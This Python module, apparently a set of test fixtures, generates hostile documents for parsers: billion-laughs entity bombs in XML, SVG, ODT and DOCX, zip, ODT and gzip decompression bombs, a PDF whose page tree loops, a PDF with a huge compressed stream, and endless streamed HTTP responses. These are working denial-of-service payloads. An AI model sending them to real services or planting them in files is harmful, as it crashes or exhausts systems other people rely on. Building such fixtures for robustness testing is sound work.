"""Documents that harm who reads them, made when they are asked for: small on the wire, or sent without ever being whole here."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e0 "lol">{ENTITIES}]>'
LAUGH = "&e9;"  # a thousand million times "lol"
ODF = "application/vnd.oasis.opendocument.text"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{DOCX}.main+xml"/></Types>'
)
BLOCK = 1 << 20


def xml() -> bytes:
    """A billion laughs in an XML file of its own."""
    return f"{BOMB}<r>{LAUGH}</r>".encode()


def svg() -> bytes:
    """A billion laughs in a picture."""
    return f'{BOMB.replace("r [", "svg [")}<svg xmlns="http://www.w3.org/2000/svg"><text>{LAUGH}</text></svg>'.encode()


def odt() -> bytes:
    """A billion laughs in the content of an OpenDocument text."""
    office = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.3"'
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{ODF}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    content = f"{BOMB.replace('r [', 'office:document-content [')}<office:document-content {office}>{LAUGH}</office:document-content>"
    return zipped({"mimetype": ODF, "content.xml": content, "META-INF/manifest.xml": manifest})


def docx() -> bytes:
    """A billion laughs in the text of a Word file."""
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    text = f'{BOMB.replace("r [", "w:document [")}<w:document xmlns:w="{word}"><w:body><w:p><w:r><w:t>{LAUGH}</w:t></w:r></w:p></w:body></w:document>'
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": text})


def zip_bomb(megabytes: int = 1000) -> bytes:
    """A zip of one file of so many megabytes of nothing, a thousand times smaller."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package, package.open("data.csv", "w", force_zip64=True) as part:
        for _ in range(megabytes):
            part.write(bytes(1_000_000))
    return made.getvalue()


def odt_bomb(megabytes: int = 200) -> bytes:
    """An OpenDocument text whose content unpacks to so many megabytes."""
    return zipped({"mimetype": ODF, "content.xml": " " * megabytes * 1_000_000})


def large_odt(megabytes: int) -> bytes:
    """A sound OpenDocument text whose content is so large."""
    office = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.3"'
    words = "".join(f"{number * 7919 % 1_000_003} bees in {number}. " for number in range(megabytes * 1_000_000 // 24))
    return zipped({"mimetype": ODF, "content.xml": f"<office:document-content {office}>{words}</office:document-content>"})


def page_loop() -> bytes:
    """A PDF whose tree of pages leads back to its root."""
    made = pikepdf.new()
    made.add_blank_page()
    root = made.Root.Pages
    inner = made.make_indirect(Dictionary(Type=Name.Pages, Parent=root, Count=5, Kids=Array([])))
    inner.Kids.append(root)
    root.Kids.append(inner)
    root.Count = 6
    return _saved(made)


def huge_stream(megabytes: int = 1000) -> bytes:
    """A PDF with a page whose drawing unpacks to so many megabytes."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"q Q " * 250_000) for _ in range(megabytes)) + packer.flush()
    made = pikepdf.new()
    made.add_blank_page()
    made.pages[0].obj.Contents = made.make_stream(packed, Filter=Name.FlateDecode)
    return _saved(made)


def zipped(parts: dict[str, str]) -> bytes:
    """A zip package of these parts, the first of them stored."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for number, (name, text) in enumerate(parts.items()):
            package.writestr(name, text, None if number else zipfile.ZIP_STORED)
    return made.getvalue()


def rows(count: int) -> Iterator[bytes]:
    """A CSV of so many rows and a header, in pieces."""
    yield b"id,area\n"
    piece = b"1234567,9\n" * 10_000  # the same rows again and again, lest making them takes longer than reading
    for _ in range(count // 10_000):
        yield piece


def streamed(pieces: Callable[[], Iterator[bytes]], headers: dict[str, str]) -> Callable[[Any], None]:
    """An answer of pieces that are made while they are sent, without a length."""

    def answer(handler: Any) -> None:
        handler.close_connection = True
        handler.send_response(200)
        for name, value in headers.items():
            handler.send_header(name, value)
        handler.send_header("Connection", "close")
        handler.end_headers()
        try:
            for piece in pieces():
                handler.wfile.write(piece)
        except OSError:
            pass  # the reader had enough

    return answer


def zeros(size: int) -> Iterator[bytes]:
    """So many bytes of nothing after the mark of a PDF, in pieces."""
    yield b"%PDF-1.7\n"
    piece = bytes(BLOCK)
    for _ in range(size // BLOCK):
        yield piece


def gzipped(megabytes: int) -> bytes:
    """So many megabytes of nothing as Content-Encoding gzip has it, a thousand times smaller."""
    packer = zlib.compressobj(9, wbits=31)
    return b"".join(packer.compress(bytes(1_000_000)) for _ in range(megabytes)) + packer.flush()


def _saved(made: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()
